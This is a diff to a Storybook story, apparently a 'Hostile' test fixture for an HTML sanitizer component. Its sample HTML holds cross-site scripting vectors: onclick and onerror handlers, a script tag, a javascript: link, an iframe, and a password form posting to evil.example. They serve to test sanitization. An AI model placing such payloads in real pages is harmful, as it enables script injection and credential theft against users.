@@ -35,7 +35,7 @@ export const Hostile: Story = {
   args: {
     html: `<p style="position:fixed" onclick="steal()" id="main" class="x">Kept</p><script>steal()</script>
       <style>p{display:none}</style><form action="https://evil.example"><input name="password"></form>
-      <a href="javascript:steal()">script</a> <a href="https://example.org/terms">outside</a>
+      <p><a href="javascript:steal()">script</a> is no link; this one leads <a href="https://example.org/terms">outside</a> of the app.</p>
       <iframe src="https://evil.example"></iframe><img src="x.invalid:" onerror="steal()" alt="">`,
   },
   parameters: { chromatic: { disableSnapshot: true } },
